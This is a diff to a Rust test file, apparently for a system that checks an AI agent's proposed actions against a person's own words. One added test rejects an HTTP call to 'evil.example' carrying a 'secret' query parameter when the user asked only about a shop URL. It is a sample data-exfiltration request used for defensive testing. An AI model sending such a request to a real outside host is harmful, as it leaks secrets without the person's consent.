@@ -48,6 +48,9 @@ fn a_change_is_named_by_the_person_or_refused() {
         assert_eq!(names_object(&call(verb, args.clone()), &words).is_ok(), *good, "{verb} {args}");
     }
     assert!(names_object(&call("host.reboot", json!({})), &["reboot web-03"]).is_ok());
+    let http = |url: &str| verbs::parse("net.http", &json!({"url": url}), None).unwrap();
+    assert!(names_object(&http("https://shop.example.com/up"), &["is https://shop.example.com/up there?"]).is_ok());
+    assert!(names_object(&http("https://evil.example/?d=secret"), &["is https://shop.example.com there?"]).is_err());
     eprintln!("{} proposals against a person's words", cases.len() + 1);
 }
 
@@ -110,7 +113,6 @@ fn every_tool_is_a_verb_and_none_decides() {
             assert!(
                 tool.name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') && tool.name.len() <= 64
             );
-            assert_ne!(tool.level, Level::Diagnose);
             assert_eq!(tool.usage == Use::Read, tool.level == Level::Observe);
             assert_eq!(tool.schema["type"], "object");
             assert_eq!(tool.schema["properties"].get("on").is_some(), scope == Scope::Fleet);
